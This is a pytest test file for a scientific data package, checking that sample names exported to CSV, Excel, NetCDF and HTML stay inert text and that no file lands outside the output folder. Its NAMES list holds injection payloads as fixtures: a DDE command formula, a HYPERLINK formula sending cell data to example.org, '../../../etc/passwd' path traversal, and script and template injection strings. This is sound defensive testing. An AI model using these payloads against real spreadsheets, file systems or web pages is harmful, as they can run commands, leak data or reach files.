"""Names that a spreadsheet, a file system or a page would act on: kept as text, and nothing written elsewhere."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
import xarray as xr
from hypothesis import example, given, settings
from hypothesis import strategies as st
from plate_builders import tidy_rows

from ckinetics.assay import quantify, read_plates
from ckinetics.cohorts import load, save
from ckinetics.delimited import csv_plain, csv_text
from ckinetics.reporting.tables.sheets import Sheet
from ckinetics.reporting.tables.workbook import write_workbook
from ckinetics.study.batch import quantify_folder

# Names that are different from each other also as names of files.
NAMES = (
    '=HYPERLINK("http://example.org/?"&A1,"x")', "+ctrl", "-RT", "@SUM(1)", "'quoted", "'=1", "=cmd|' /C calc'!A0",
    "../../../etc/passwd", "..\\..\\x", "/tmp/absolute", "C:\\x", "CON", "a/b", "S1\u202e7", "S\x07", "\x1b[2J",
    "<script>alert(1)</script>", "{{ 7*7 }}", "a;=1+1", "a,b", 'a"b', "n" * 5000, "Ü µ", "~", "..", "-", "＝1+1",
)  # fmt: skip
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
TEXT = st.text(max_size=12) | st.from_regex(r"'{0,2}[ \t\r]?[=+@\-＝]?.{0,3}", fullmatch=True)


@settings(max_examples=300, deadline=None)
@given(text=TEXT)
@example("'=")
@example("''\t")
@example(" =1")
def test_text_in_a_csv_is_no_formula_and_comes_back(text):
    cell = csv_text(text)
    assert not FORMULA.match(cell)
    assert csv_plain(cell) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (-3.5, "-3.5"),
        (np.float64(-1e-300), "-1e-300"),
        (np.int64(-4), "-4"),
        (float("nan"), ""),
        (None, ""),
        (pd.NaT, ""),
        (np.datetime64("NaT"), ""),
        (True, "true"),
        (pd.Timestamp("2024-05-01T08:30"), "2024-05-01T08:30:00"),
        (0.1 + 0.2, "0.30000000000000004"),
    ],
)
def test_numbers_and_dates_stay_what_they_are(cell, text):
    assert csv_text(cell) == text


@settings(max_examples=60, deadline=None)
@given(names=st.lists(TEXT.filter(lambda text: "\0" not in text), min_size=1, max_size=4))
def test_tables_that_are_saved_hold_no_formula_and_load_the_same(tmp_path_factory, names):
    folder = tmp_path_factory.mktemp("saved") / "tables"
    data = xr.Dataset(
        {"name": ("row", np.array(names, dtype=object)), "value": ("row", -np.arange(1.0, 1 + len(names)))}
    )
    save(data, folder)
    back = load(folder)
    assert back["name"].values.tolist() == names
    assert back["value"].values.tolist() == data["value"].values.tolist()
    for path in folder.glob("*.csv"):
        header, *rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        at = header.index("name")
        assert not any(FORMULA.match(row[at]) for row in rows)
        assert all(float(row[header.index("value")]) < 0 for row in rows)


def test_cells_of_a_workbook_are_text(tmp_path):
    import python_calamine

    frame = pd.DataFrame({"=name": [name[:900] for name in NAMES], "value": -np.arange(1.0, 1 + len(NAMES))})
    write_workbook(tmp_path / "a.xlsx", [Sheet("One", frame, has_units=False)], title="=1+1")
    header, *rows = python_calamine.CalamineWorkbook.from_path(tmp_path / "a.xlsx").get_sheet_by_name("One").to_python()
    assert header == ["=name", "value"]
    assert [row[0] for row in rows] == [name[:900] for name in NAMES]
    assert [row[1] for row in rows] == frame["value"].tolist()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    # A text that looks like a formula has a style of its own, which keeps it text when it is edited.
    quoted = [at for at, style in enumerate(re.findall(r"<xf [^>]*xfId[^>]*>", styles)) if "quotePrefix" in style]
    cells = dict(re.findall(r'<c r="A(\d+)"(?: s="(\d+)")? t="s">', sheet))
    for number, name in enumerate(NAMES, start=2):
        assert (cells[str(number)] in map(str, quoted)) == (csv_text(name) != name), name


def files_under(folder):
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*")}


def test_nothing_is_written_outside_the_output_folder(tmp_path, monkeypatch):
    names = NAMES[4:19]
    exports, out, here = (tmp_path / name for name in ("exports", "out", "here"))
    for folder in (exports, here):
        folder.mkdir()
    monkeypatch.chdir(here)
    frame = pd.concat(
        [tidy_rows({name: 1e4}).assign(run_id=name) for name in names],
        ignore_index=True,
    )
    frame.map(lambda cell: csv_text(cell) if isinstance(cell, str) else cell).to_csv(exports / "p.csv", index=False)
    sheet = pd.DataFrame({"sample": names, "patient": names, "time": 7.0 * np.arange(len(names)), "dna_ng": 200.0})
    sheet.map(lambda cell: csv_text(cell) if isinstance(cell, str) else cell).to_csv(here / "s.csv", index=False)
    before = files_under(tmp_path)
    quantify_folder(exports, out=out, layout=here / "s.csv")
    assert {name for name in files_under(tmp_path) - before if name != "out" and not name.startswith("out/")} == set()
    pages = [path for path in files_under(out) if path.endswith(".html")]
    assert len(pages) == len(names)
    for path in out.rglob("*.html"):
        assert "<script>alert" not in path.read_text(encoding="utf-8")
    with (out / "results.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(names)
    assert {csv_plain(row["sample"]) for row in rows} == set(names)
    for row in rows:
        for cell in row.values():
            assert not FORMULA.match(cell) or re.fullmatch(r"-\d[\d.e+-]*", cell), cell


def test_names_survive_from_the_plate_to_the_profiles(tmp_path):
    frame = tidy_rows(dict.fromkeys(NAMES[:20], 1e4))
    frame.map(lambda cell: csv_text(cell) if isinstance(cell, str) else cell).to_csv(tmp_path / "p.csv", index=False)
    sheet = pd.DataFrame({"sample": NAMES[:20], "patient": NAMES[:20], "time": 7.0, "dna_ng": 200.0})
    kinetics = quantify(read_plates(tmp_path / "p.csv", layout=sheet))
    assert sorted(kinetics["patient"].values.tolist()) == sorted(NAMES[:20])
    path = save(kinetics, tmp_path / "k.nc")
    assert sorted(load(path)["patient"].values.tolist()) == sorted(NAMES[:20])
